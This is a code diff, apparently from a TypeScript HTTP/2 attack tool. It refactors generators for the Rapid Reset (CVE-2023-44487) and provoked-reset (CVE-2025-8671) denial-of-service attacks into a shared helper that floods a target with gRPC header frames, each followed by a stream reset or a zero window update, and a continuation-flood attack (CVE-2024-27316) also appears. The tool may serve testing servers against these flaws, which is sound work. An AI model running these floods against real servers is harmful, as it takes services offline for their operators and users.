@@ -78,33 +78,24 @@ function many(count: number, bytes: (index: number) => Buffer): Buffer {
 
 const A_WRITE = 50;
 
+/** Calls without end, each with a frame behind it that ends it. */
+function callsEndedBy(ending: (stream: number) => Buffer): Attack {
+  return (target) => {
+    const block = headerBlock(grpcHeaders(target.path));
+    return repeat(target, (_, number) =>
+      many(A_WRITE, (index) => {
+        const stream = streamOf(number * A_WRITE + index);
+        return Buffer.concat([frame(Frame.headers, Flag.endHeaders, stream, block), ending(stream)]);
+      }),
+    );
+  };
+}
+
 /** Calls that are taken back at once (CVE-2023-44487). */
-const rapidReset: Attack = (target) => {
-  const block = headerBlock(grpcHeaders(target.path));
-  return repeat(target, (_, number) =>
-    many(A_WRITE, (index) => {
-      const stream = streamOf(number * A_WRITE + index);
-      return Buffer.concat([
-        frame(Frame.headers, Flag.endHeaders, stream, block),
-        frame(Frame.reset, Flag.none, stream, uint32(8)),
-      ]);
-    }),
-  );
-};
+const rapidReset = callsEndedBy((stream) => frame(Frame.reset, Flag.none, stream, uint32(8)));
 
 /** Calls that make the server take them back: a window that grows by nothing (CVE-2025-8671). */
-const provokedReset: Attack = (target) => {
-  const block = headerBlock(grpcHeaders(target.path));
-  return repeat(target, (_, number) =>
-    many(A_WRITE, (index) => {
-      const stream = streamOf(number * A_WRITE + index);
-      return Buffer.concat([
-        frame(Frame.headers, Flag.endHeaders, stream, block),
-        frame(Frame.windowUpdate, Flag.none, stream, uint32(0)),
-      ]);
-    }),
-  );
-};
+const provokedReset = callsEndedBy((stream) => frame(Frame.windowUpdate, Flag.none, stream, uint32(0)));
 
 /** Headers that never end (CVE-2024-27316). */
 const continuationFlood: Attack = (target) => {
